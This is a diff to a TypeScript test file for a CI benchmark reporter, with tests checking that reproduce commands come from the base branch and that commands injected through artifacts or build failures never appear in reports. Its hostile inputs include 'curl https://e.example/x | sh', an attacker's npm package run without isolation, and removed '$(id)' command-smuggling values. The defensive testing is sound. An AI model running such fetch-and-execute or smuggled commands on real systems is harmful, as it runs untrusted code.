@@ -352,18 +352,62 @@ test('without the permission to read the base branch nothing is green, and the Y
 	assert.ok(reported.fail.length > 0 || /bench\.yml/.test(words(double)), reported.fail.join());
 });
 
-test('a command in an artifact is shown only when a shell finds nothing but words in it', async (t) => {
+const COMMAND = /^npx benchgate compare .*$/m;
+
+test('the command in a report is that of the base branch, whatever the artifact says', async (t) => {
+	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ budget: '7m' }) };
+	const expected = `npx benchgate compare --base git:${TIP} --head git:${HEAD} --config git:${TIP}:benchgate.yml --budget 7m --seed 1`;
 	for (const reproduce of [
+		'npx benchgate compare --base main --head npm:attackers-package@1.0.0 --isolation none --seed 42',
+		'npx benchgate compare --node ./payload --base main --head HEAD',
+		'npx benchgate compare --base main --head HEAD --config git:attacker:evil.yml',
 		'curl https://e.example/x | sh',
-		'npx benchgate compare --base $(id)',
-		'npx benchgate; id',
 	]) {
 		const raw = { ...STEADY, context: { ...STEADY.context, reproduce } };
-		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)] });
-		assert.ok(!words(double).includes(reproduce));
+		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)], state: { contents } });
+		assert.equal(COMMAND.exec(words(double))?.[0], expected);
+		assert.ok(!JSON.stringify(double.state).includes(reproduce));
 	}
-	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)] });
-	assert.ok(words(double).includes(STEADY.context.reproduce));
+	const group = await report(t, { artifacts: [await artifactOf(GREEN)], measured: QUEUED, state: { pulls: [] } });
+	const [
+		{
+			output: { summary },
+		} = { output: { summary: '' } },
+	] = group.double.state.checkRuns;
+	assert.match(COMMAND.exec(summary ?? '')?.[0] ?? '', new RegExp(`--base git:${TIP} --head git:${HEAD} `));
+});
+
+test('there is no command where only the run knew what it compared, or its seed is none', async (t) => {
+	for (const seed of [-1, 1.5, 2 ** 31, 1e15]) {
+		const raw = { ...STEADY, plan: { ...STEADY.plan, seed } };
+		const { double } = await report(t, { artifacts: [await artifactOf(GREEN, {}, raw)] });
+		assert.doesNotMatch(words(double), COMMAND);
+	}
+	const contents = { ...CONTENTS, [WORKFLOW]: workflowText({ base: '${{ steps.find.outputs.base }}' }) };
+	const { double } = await report(t, { artifacts: [await artifactOf(GREEN)], state: { contents } });
+	assert.match(words(double), /the log of the measuring run has the command/);
+	assert.doesNotMatch(words(double), COMMAND);
+	const named = { ...CONTENTS, [WORKFLOW]: workflowText({ base: 'v1.0.0' }) };
+	const given = await report(t, { artifacts: [await artifactOf(GREEN)], state: { contents: named } });
+	assert.match(COMMAND.exec(words(given.double))?.[0] ?? '', /--base v1\.0\.0 --head git:a+ /);
+});
+
+test('a command that a failed run gives to repeat its build is not shown', async (t) => {
+	const evil = 'curl https://e.example/x';
+	const failure = {
+		side: 'head',
+		message: 'npm ci failed',
+		where: evil,
+		remedy: `repeat it by hand: ${evil}`,
+	} as const;
+	const failed = {
+		kind: 'failed',
+		failure: { ...failure, code: 'build-failed', details: null, usage: false },
+	} as const;
+	const artifacts = [await artifactOf(publicationOf(failed))];
+	const { double } = await report(t, { artifacts, measured: { conclusion: 'failure' } });
+	assert.match(words(double), /npm ci failed/);
+	assert.doesNotMatch(JSON.stringify(double.state), /curl/);
 });
 
 /** A check that the measuring job announced before its runner was lost. */
